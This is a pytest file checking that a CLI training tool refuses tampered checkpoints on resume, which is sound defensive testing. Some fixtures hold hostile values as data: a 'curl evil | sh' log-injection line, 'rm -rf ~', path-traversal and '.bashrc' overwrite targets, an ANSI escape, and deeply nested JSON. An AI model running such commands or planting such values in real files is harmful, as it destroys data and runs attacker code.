"""Tampered checkpoints given to `cnnc train --resume` (issue 18, items 1, 13 and 14).

A checkpoint may come from someone else. Its metadata is checked against one schema before any of it is
used; the paths it stores are at most defaults in its own folder; the log a resumed run writes never
holds text copied from it. Each test crafts the hostile checkpoint from a real one (TINY, one epoch of
two on the NumPy backend, well under a second).
"""
from __future__ import annotations

import contextlib
import json
import shutil
from pathlib import Path

import numpy as np
import pytest

from cli_runner import run_cli
from conftest import TINY

TRAIN = ["train", "tiny.cnn", "--data", "digits", "--backend", "numpy", "--epochs", "2", "-q"]



def arrays_of(path: Path) -> dict[str, np.ndarray]:
    with np.load(path) as data:
        return {k: data[k] for k in data.files}


def rewrite(path: Path, edit_meta=None, **replace) -> None:
    """Rewrite a checkpoint with its metadata edited by `edit_meta` (a function of the dict) and arrays replaced."""
    arrays = arrays_of(path)
    if edit_meta is not None:
        arrays["meta"] = np.array(edit_meta(json.loads(str(arrays["meta"]))))
    arrays.update(replace)
    np.savez(path, **arrays)


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> Path:
    """One real run, stopped after epoch 1 of 2: folder/run/tiny.weights.ckpt.npz and folder/tiny.cnn."""
    folder = tmp_path_factory.mktemp("trained")
    (folder / "tiny.cnn").write_text(TINY)
    with contextlib.chdir(folder):
        status, _, err = run_cli(*TRAIN, "--stop-after", "1", "-o", "run/tiny.weights.npz", "--log", "run/tiny.jsonl")
    assert status == 0, err
    return folder


@pytest.fixture
def run(trained, tmp_path, monkeypatch) -> Path:
    """A fresh copy of the trained run: tmp/run/tiny.weights.ckpt.npz (and tiny.jsonl), tmp/tiny.cnn."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(trained, tmp_path, dirs_exist_ok=True)
    checkpoint = tmp_path / "run" / "tiny.weights.ckpt.npz"
    assert checkpoint.is_file() and not (tmp_path / "run" / "tiny.weights.npz").exists()
    return checkpoint


def resume(checkpoint: Path, *extra) -> tuple[int, str, str]:
    return run_cli(*TRAIN, "--resume", checkpoint, *extra)


# ---- item 1: a checkpoint never redirects writes ----------------------------------------------------------
def test_the_checkpoint_stores_its_paths_relative_to_its_own_folder(run):
    meta = json.loads(str(arrays_of(run)["meta"]))
    assert meta["output"] == "tiny.weights.npz" and meta["log"] == "tiny.jsonl"


def test_a_resumed_run_writes_beside_the_checkpoint_wherever_it_was_moved(run, tmp_path):
    moved = tmp_path / "elsewhere"
    run.parent.rename(moved)
    status, out, err = resume(moved / "tiny.weights.ckpt.npz")
    assert status == 0, err
    assert (moved / "tiny.weights.npz").is_file() and len((moved / "tiny.jsonl").read_text().splitlines()) == 2
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("key, value, option", [
    ("output", "VICTIM", "-o"),                    # an absolute path outside (filled in below)
    ("output", "../victim.npz", "-o"),
    ("output", ".bashrc", "-o"),                   # a hidden start-up file in the checkpoint's own folder
    ("log", "VICTIM", "--log"),
    ("log", "../.profile", "--log"),
    ("log", "notes.txt", "--log"),                 # not a .jsonl log
])
def test_a_checkpoint_naming_another_path_is_refused_and_nothing_is_written(run, tmp_path, key, value, option):
    victim = tmp_path / "victim.npz"
    victim.write_text("the user's file")
    value = str(victim) if value == "VICTIM" else value
    rewrite(run, lambda m: json.dumps({**m, key: value}))
    before = sorted(p.name for p in run.parent.iterdir())
    status, _, err = resume(run)
    assert status == 1 and "Traceback" not in err
    assert f"{run}: the checkpoint names the" in err and repr(value) in err and f"{option} PATH" in err
    assert victim.read_text() == "the user's file"
    assert sorted(p.name for p in run.parent.iterdir()) == before
    assert not (run.parent / ".bashrc").exists() and not (tmp_path / ".profile").exists()


def test_a_path_the_checkpoint_names_is_used_when_given_on_the_command_line(run, tmp_path):
    target = tmp_path / "chosen.npz"
    rewrite(run, lambda m: json.dumps({**m, "output": str(target)}))
    status, _, err = resume(run, "-o", target)
    assert status == 0, err
    assert sorted(arrays_of(target)) == ["c1.bias", "c1.weight", "out.bias", "out.weight"]


def test_the_log_holds_no_text_from_the_checkpoint(run):
    evil = "\n# pwned; curl evil | sh\n"
    rewrite(run, lambda m: json.dumps({**m, "history": [{**m["history"][0], "note": evil}]}))
    status, _, err = resume(run)
    assert status == 1 and "metadata.history[0] holds unexpected entries 'note'" in err
    assert "pwned" not in (run.parent / "tiny.jsonl").read_text()


def test_a_history_of_text_in_place_of_numbers_is_refused(run):
    rewrite(run, lambda m: json.dumps({**m, "history": [{**m["history"][0], "train_loss": "rm -rf ~"}]}))
    status, _, err = resume(run)
    assert status == 1 and "metadata.history[0].train_loss must be a finite number" in err
    assert "rm -rf" not in (run.parent / "tiny.jsonl").read_text()


# ---- item 13: one schema, checked before anything is used ----------------------------------------------
def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


TAMPERED_META = [
    (lambda m: json.dumps({**m, "running": {**m["running"], "extra": 1}}), "metadata.running holds unexpected entries 'extra'"),
    (lambda m: json.dumps({**m, "position": {**m["position"], "batch": 10**6}}),
     "position.batch is 1000000 but the checkpoint holds no shuffling order"),
    (lambda m: json.dumps({**m, "history": [[1, 2]]}), "metadata.history[0] must be an object"),
    (lambda m: json.dumps({**m, "history": [{"epoch": "1"}]}), "metadata.history[0] lacks"),
    (lambda m: json.dumps({**m, "rng": {**m["rng"], "shuffle": {"bit_generator": "PCG64", "state": 7}}}),
     "metadata.rng.shuffle lacks"),
    (lambda m: json.dumps({**m, "rng": {**m["rng"], "dropout": {**m["rng"]["dropout"], "bit_generator": "MT19937"}}}),
     "metadata.rng.dropout.bit_generator must be one of PCG64"),
    (lambda m: json.dumps({**m, "rng": {**m["rng"], "dropout": {**m["rng"]["dropout"], "state": {"state": -1, "inc": 1}}}}),
     "metadata.rng.dropout.state.state must be an integer"),
    (lambda m: json.dumps({**m, "optimizer_state": [1, 2, 3]}), "metadata.optimizer_state must be an object"),
    (lambda m: json.dumps({**m, "optimizer_state": {**m["optimizer_state"], "lr": "fast"}}),
     "metadata.optimizer_state.lr must be a finite number"),
    (lambda m: json.dumps({**m, "spec": {**m["spec"], "file": "\x1b[2Jspec"}}), "metadata.spec.file must be printable text"),
    (lambda m: json.dumps({**m, "backend": "gpu"}), "metadata.backend must be one of c, numpy"),
    (lambda m: json.dumps({**m, "position": {**m["position"], "epoch": 2**70}}), "metadata.position.epoch must be an integer"),
    (lambda m: json.dumps(m)[:-1] + ', "deep": ' + _nested(100_000) + "}", "nested too deeply"),
    (lambda m: json.dumps({**m, "deep": json.loads(_nested(50))}), "JSON nested more than 16 levels deep"),
]


@pytest.mark.parametrize("tamper, expected", TAMPERED_META)
def test_tampered_metadata_is_a_clear_error_naming_the_file(run, tamper, expected):
    weights_before = run.parent / "tiny.weights.npz"
    rewrite(run, tamper)
    checkpoint_bytes = run.read_bytes()
    status, out, err = resume(run)
    assert status == 1 and "Traceback" not in err
    assert err.startswith(f"error: {run}: ") and expected in err, err
    assert run.read_bytes() == checkpoint_bytes and not weights_before.exists()


@pytest.mark.parametrize("perm, batch, expected", [
    (np.arange(5, dtype=np.int64), 3, "perm is not an ordering of the 1437 training samples"),
    (np.full(1437, 10**9, dtype=np.int64), 3, "perm is not an ordering"),
    (np.arange(1437, dtype=np.float64), 3, "perm must be a 1-D integer array"),
    (np.arange(1437, dtype=np.int64).reshape(1, 1437), 3, "perm must be a 1-D integer array"),
    (np.arange(1437, dtype=np.int64)[::-1].copy(), 10**6, "position.batch 1000000 is past the epoch's 45 batches"),
])
def test_a_tampered_shuffling_order_or_position_is_refused(run, perm, batch, expected):
    # a checkpoint inside an epoch: `batch` batches done, with the epoch's order
    rewrite(run, lambda m: json.dumps({**m, "position": {**m["position"], "batch": batch}}), perm=perm)
    status, _, err = resume(run)
    assert status == 1 and "Traceback" not in err and expected in err and str(run) in err


def test_a_meta_entry_that_is_not_one_string_is_refused(run):
    rewrite(run, meta=np.zeros(3))
    status, _, err = resume(run)
    assert status == 1 and f"{run}: a damaged checkpoint: its 'meta' entry is not one string" in err


def test_an_intact_checkpoint_still_resumes_to_the_end(run):
    status, out, err = resume(run)
    assert status == 0, err
    assert "after 2 epochs" in out
